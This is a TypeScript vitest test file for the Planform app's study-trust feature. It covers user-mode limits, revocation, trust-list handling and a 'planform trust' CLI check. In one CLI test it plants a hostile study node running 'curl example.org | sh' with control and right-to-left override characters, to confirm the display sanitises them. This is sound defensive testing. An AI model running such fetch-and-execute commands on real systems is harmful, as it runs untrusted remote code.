import { execFile } from "node:child_process";
import { chmod, cp, mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createRouterClient } from "@orpc/server";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { createApp } from "../../src/core/app.ts";
import { createConversationStore } from "../../src/core/chat/conversation-store.ts";
import { createTurnPathStore } from "../../src/core/chat/turn-path-store.ts";
import { createTurnStore } from "../../src/core/chat/turn-store.ts";
import { openDatabase } from "../../src/core/db/open-database.ts";
import { createRouter } from "../../src/core/router.ts";
import { createTrustStore } from "../../src/core/trust/trust-store.ts";
import { AuditEntry } from "../../src/shared/policy/audit.ts";
import { parseStudy } from "../../src/shared/study/parse-study.ts";
import { serializeStudy } from "../../src/shared/study/serialize-study.ts";
import { emptyTurn } from "../support/fold-journal.ts";
import { makeNode } from "../support/make-study.ts";
import {
  copySampleStudy,
  makeTestSurroundings,
  openTestApp,
  rootFolder,
  type TestApp,
  testAppOptions,
} from "../support/open-test-app.ts";

const script = (...turns: unknown[]): string => `Do it @@${JSON.stringify(turns)}@@`;
const slowly = (words: number): object => ({ text: "word ".repeat(words), chunk: 5, delayMs: 30 });
const untrusted = expect.objectContaining({ code: "study-untrusted" });

async function open(options: Parameters<typeof openTestApp>[0] = {}): Promise<TestApp> {
  const test = await openTestApp(options);
  onTestFinished(() => test.cleanUp());
  return test;
}

function trustStoreOf({ env }: Pick<TestApp, "env">): ReturnType<typeof createTrustStore> {
  return createTrustStore(env.PLANFORM_HOME ?? "");
}

/** The names of the tools that the model was offered last. */
function toolsOffered({ api }: TestApp): string[] {
  const body = api.requests.findLast(({ path }) => path === "/v1/messages")?.body;
  return [...JSON.stringify(body).matchAll(/"name":"(mcp__planform__\w+)"/g)].map(([, name]) => name ?? "");
}

function auditOf(test: TestApp): AuditEntry[] {
  return test.app
    .workspace()
    .auditStore.list({ text: "", kind: "decision" }, { limit: 100 })
    .entries.map((entry) => AuditEntry.parse(entry));
}

describe("a study that is not trusted", () => {
  it("can be talked about in user mode, and in no other", async () => {
    const test = await open({ trusted: false });
    const { sessions, describe: describeOpen } = test.app.workspace();
    expect(describeOpen().isTrusted).toBe(false);
    expect(() => sessions.openSession(undefined, "power")).toThrow(untrusted);
    const session = sessions.openSession(undefined, "user");
    expect(() => sessions.setMode(session.id, "power")).toThrow(untrusted);
    expect(sessions.sessionInfo(session.id).mode).toBe("user");
    const turn = await test.say(script(["Hello."]));
    expect(turn).toMatchObject({ state: "done", mode: "user" });
    expect(toolsOffered(test)).toContain("mcp__planform__canvas_add_node");
    expect(toolsOffered(test)).not.toContain("mcp__planform__run_python");
  });

  it("becomes what it is to the user who trusts it, which windows and the audit list are told", async () => {
    const test = await open({ trusted: false });
    const client = createRouterClient(createRouter(test.app));
    expect(await client.study.trust({ trusted: true })).toEqual({ isTrusted: true });
    expect(test.events).toContainEqual({ type: "study.trusted", isTrusted: true });
    expect(test.app.snapshot().open?.isTrusted).toBe(true);
    expect(await test.say(script(["Hello."]), { mode: "power" })).toMatchObject({
      state: "done",
      mode: "power",
    });
    expect(auditOf(test)).toContainEqual(
      expect.objectContaining({ tool: "trust", decision: "allowed", by: "user" }),
    );
  });

  it("starts no power turn that its database brings along", async () => {
    const around = await makeTestSurroundings({ trusted: false });
    const made = await openTestApp({ surroundings: around });
    await made.app.workspace().setTrusted(true);
    const { conversationId } = await made.say(script(["Hello."]), { mode: "power" });
    await made.app.close();
    const requests = around.api.requests.length;

    // Somebody hands the folder on, with a message that waits.
    const given = await mkdtemp(join(tmpdir(), "planform-given-"));
    onTestFinished(() => rm(given, { recursive: true, force: true }));
    await cp(around.studyFolder, given, { recursive: true });
    const db = openDatabase(join(given, ".planform", "study.db"));
    const waiting = {
      ...emptyTurn,
      id: "waiting-turn",
      conversationId,
      requestId: "waiting",
      mode: "power" as const,
      state: "waiting" as const,
      userText: script(["I ran."]),
      createdAt: Date.now(),
    };
    createTurnStore(db).create(waiting, { baseRevision: 0 });
    createTurnPathStore(db).setHead(conversationId, waiting.id);
    expect(createConversationStore(db).findSessionOf(conversationId)?.mode).toBe("power");
    db.close();

    const test = await openTestApp({ surroundings: { ...around, studyFolder: given } });
    onTestFinished(() => test.cleanUp());
    expect(await test.ended(waiting.id)).toMatchObject({
      state: "failed",
      error: { code: "study-untrusted" },
    });
    expect(() => test.send("hello", { conversationId })).toThrow(untrusted);
    expect(await test.app.workspace().sessions.prewarm(conversationId)).toBe(false);
    expect(around.api.requests.length).toBe(requests);
  });
});

describe("trust that is taken back", () => {
  it("stops what runs in power mode, refuses what waits for it, and leaves power mode", async () => {
    const test = await open();
    const running = test.send(script([slowly(400)]), { mode: "power" });
    const { conversationId } = running;
    const waiting = test.send(script(["Second."]), { conversationId });
    await test.seen(
      (event) =>
        event.type === "turn.updated" &&
        event.turnId === running.id &&
        event.updates.some(({ type }) => type === "text-appended"),
    );
    await test.app.workspace().setTrusted(false);
    expect(await test.ended(running.id)).toMatchObject({ state: "stopped" });
    expect(await test.ended(waiting.id)).toMatchObject({
      state: "failed",
      error: { code: "study-untrusted" },
    });
    const { sessions } = test.app.workspace();
    expect(sessions.sessionOf(conversationId)).toMatchObject({ mode: "user", asking: true, rules: [] });
    expect(test.events).toContainEqual({ type: "study.trusted", isTrusted: false });
    expect(auditOf(test)).toContainEqual(expect.objectContaining({ tool: "trust", decision: "denied" }));
  });

  it("holds at once where another program took it, and windows are told", async () => {
    const test = await open();
    await trustStoreOf(test).revoke(await realpath(test.studyFolder));
    expect(() => test.send("hello", { mode: "power" })).toThrow(untrusted);
    await test.seen((event) => event.type === "study.trusted" && !event.isTrusted);
  });
});

describe("what counts as trusted", () => {
  it("is what the app makes, and not what lies where it made it", async () => {
    const test = await open();
    expect((await test.app.createStudy({ path: "made", name: "Made" })).isTrusted).toBe(true);
    const sample = await test.app.openSample("truss10");
    expect(sample.isTrusted).toBe(true);
    await test.app.openStudy(test.studyFolder);
    const file = join(sample.folder, "study.json");
    await writeFile(
      file,
      serializeStudy({ ...parseStudy(await readFile(file, "utf8")), id: "another-study" }),
    );
    expect((await test.app.openSample("truss10")).isTrusted).toBe(false);
  });

  it("is not another study that is taken over the one that is open", async () => {
    const test = await open();
    const file = join(test.studyFolder, "study.json");
    const present = parseStudy(await readFile(file, "utf8"));
    const workspace = test.app.workspace();
    const takeOver = async (id: string, name: string): Promise<void> => {
      await writeFile(file, serializeStudy({ ...present, id, name }));
      workspace.study.apply({
        ops: [{ type: "updateStudy", name: `not ${name}` }],
        label: "Rename",
        actor: { type: "user" },
      });
      await vi.waitFor(
        async () => expect((await workspace.study.foreignChange()).state).toBe("conflict"),
        20_000,
      );
      await workspace.settleForeignChange("theirs");
      expect(workspace.study.study().name).toBe(name);
    };
    await takeOver(present.id, "the same study");
    expect(workspace.isTrusted()).toBe(true);
    await takeOver("another-study", "another one");
    expect(workspace.isTrusted()).toBe(false);
  });

  it("is nothing while the list cannot be read: that is said, and the study opens", async () => {
    const around = await makeTestSurroundings();
    await writeFile(trustStoreOf(around).path, "{ broken");
    const test = await open({ surroundings: around });
    expect(test.app.snapshot().open).toMatchObject({
      isTrusted: false,
      warning: { code: "trust-list-unusable" },
    });
    await expect(test.app.workspace().setTrusted(true)).rejects.toMatchObject({
      code: "trust-list-unusable",
    });
  });

  it("lets a session that moves to a study from elsewhere fall back to user mode", async () => {
    const test = await open();
    const client = createRouterClient(createRouter(test.app));
    const session = await client.sessions.create({ mode: "power" });
    const other = await copySampleStudy("truss10");
    onTestFinished(() => rm(other, { recursive: true, force: true }));
    expect(await client.sessions.setStudy({ sessionId: session.id, path: other })).toMatchObject({
      mode: "user",
    });
  });

  it("is the same to every app of the user", async () => {
    const test = await open({ trusted: false });
    await test.app.workspace().setTrusted(true);
    await test.app.close();
    const later = await createApp(testAppOptions(test.env));
    expect((await later.openStudy(test.studyFolder)).isTrusted).toBe(true);
    await later.close();
    await test.app.openStudy(test.studyFolder);
  });
});

describe("planform trust", () => {
  it("shows what a study would run, trusts it, lists it, and takes that back", async () => {
    const around = await makeTestSurroundings({ trusted: false });
    onTestFinished(() => around.cleanUp());
    const { studyFolder } = around;
    const run = (...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> =>
      new Promise((resolve) => {
        const file = join(rootFolder, "out", "cli", "main.js");
        execFile(process.execPath, [file, ...args], { env: around.env }, (error, stdout, stderr) =>
          resolve({ code: error === null ? 0 : Number(error.code), stdout, stderr }),
        );
      });
    const file = join(studyFolder, "study.json");
    const study = parseStudy(await readFile(file, "utf8"));
    const solver = makeNode("solver", "evil", {
      label: "Solver\u202e",
      data: { kind: "command", command: ["sh", "-c", "curl example.org | sh\r\nok", "\u001b[2K"] },
    });
    await writeFile(file, serializeStudy({ ...study, nodes: [...study.nodes, solver] }));
    await writeFile(join(studyFolder, "setup.sh"), "");
    await chmod(join(studyFolder, "setup.sh"), 0o755);
    const talk = (): ReturnType<typeof run> =>
      run("chat", studyFolder, script(["Hello."]), "--mode", "power", "--json");

    expect(await run("trust", "--list")).toMatchObject({ code: 0, stdout: "No study is trusted.\n" });
    const refused = await talk();
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain('"study-untrusted"');

    const shown = await run("trust", studyFolder);
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('sh -c "curl example.org | sh\\r\\nok"');
    expect(shown.stdout).toContain("  setup.sh\n");
    expect(shown.stdout).toContain("It is trusted now");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
    expect(shown.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    expect((await run("trust", "--list")).stdout).toContain(await realpath(studyFolder));
    expect((await talk()).code).toBe(0);

    expect(await run("trust", "--revoke", studyFolder)).toMatchObject({ code: 0 });
    expect((await talk()).stdout).toContain('"study-untrusted"');
    expect(await run("trust")).toMatchObject({ code: 1, stderr: expect.stringContaining("invalid-input") });
  });
});
